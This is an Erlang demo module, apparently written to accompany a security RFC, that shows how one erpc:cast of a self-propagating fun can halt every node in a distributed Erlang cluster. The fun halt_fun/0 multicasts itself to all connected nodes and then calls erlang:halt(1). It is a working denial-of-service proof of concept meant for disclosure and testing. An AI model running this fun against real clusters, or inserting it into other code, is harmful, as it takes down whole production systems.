%% SPDX-License-Identifier: Apache-2.0
%% demo - the seed RFC's scenario: one erpc:cast halts a whole cluster.
%%
%% The RFC writes the attack as
%%     erpc:cast(bar, fun Halt() -> erpc:multicast(nodes(), Halt),
%%                                   erlang:halt(1) end)
%% typed in foo's shell.  A fun travels as a reference to the module that
%% defines it, so the target runs it only if that module is loaded there
%% too: here it is halt_fun/0 of this module, compiled once and loaded on
%% foo, bar and baz.  On the wire it is the same message as the RFC's: a
%% SPAWN_REQUEST of erpc:execute_cast(erlang, apply, [Fun, []]).
-module(demo).
-export([main/1, halt_fun/0, gateway/0]).

halt_fun() ->
    fun Halt() -> erpc:multicast(nodes(), Halt), erlang:halt(1) end.

%% main([Role, Host]): what each node does; every node stops by itself.
main([Role, Host]) ->
    Bar = list_to_atom("bar@" ++ atom_to_list(Host)),
    Baz = list_to_atom("baz@" ++ atom_to_list(Host)),
    register(gateway, spawn(fun gateway/0)),
    say("up"),
    case Role of
        baz -> ok;
        bar -> say("net_adm:ping(~p) -> ~p", [Baz, net_adm:ping(Baz)]);
        foo ->
            %% A legitimate use first: the one thing foo may do.
            {gateway, Bar} ! {hello, node()},
            say("erpc:cast(~p, fun Halt() -> erpc:multicast(nodes(), Halt), "
                "erlang:halt(1) end)", [Bar]),
            erpc:cast(Bar, halt_fun())
    end,
    %% baz outlives bar, bar outlives foo: each reports its connections.
    Secs = case Role of foo -> 15; bar -> 17; baz -> 19 end,
    timer:sleep(Secs * 1000),
    say("still alive after ~w s, connected to ~w; stopping normally",
        [Secs, nodes()]),
    erlang:halt(0).

gateway() ->
    receive
        {hello, From} -> say("gateway: hello from ~p", [From]), gateway();
        _ -> gateway()
    end.

say(F) -> say(F, []).
say(F, A) -> io:format("~s: " ++ F ++ "~n", [node() | A]).
